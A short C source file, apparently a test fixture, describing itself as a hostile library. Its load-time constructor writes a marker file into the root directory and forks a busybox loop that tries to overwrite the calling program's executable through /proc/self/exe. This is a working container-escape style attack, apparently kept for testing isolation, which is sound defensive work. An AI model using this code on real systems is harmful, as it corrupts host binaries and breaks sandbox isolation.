/* SPDX-License-Identifier: MIT */
/*
 * A library of a hostile target. Whoever loads it, under whatever name, leaves a mark in the root
 * directory that he sees; and from a process that stays behind it tries to write over the file that
 * he was executed from.
 */
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

static void overwrite_exe(void)
{
	static char shell[] = "sh", option[] = "-c";
	char script[256];
	char *argv[] = { shell, option, script, NULL };
	int fd = open("/proc/self/exe", O_RDONLY);

	if (fd < 0 || fork() != 0)
		return;
	/* As long as somebody runs it, and until now that is also us, it cannot be written. */
	snprintf(script, sizeof(script),
		 "i=0; while [ $i -lt 100 ]; do echo owned 2>/dev/null >/proc/self/fd/%d && exit; "
		 "i=$((i + 1)); /bin/busybox sleep 0.02; done",
		 fd);
	execv("/bin/busybox", argv);
	_exit(0);
}

__attribute__((constructor)) static void loaded(void)
{
	int mark = open("/evil-was-here", O_WRONLY | O_CREAT | O_APPEND, 0666);

	(void)!write(mark, "loaded\n", 7);
	close(mark);
	overwrite_exe();
}
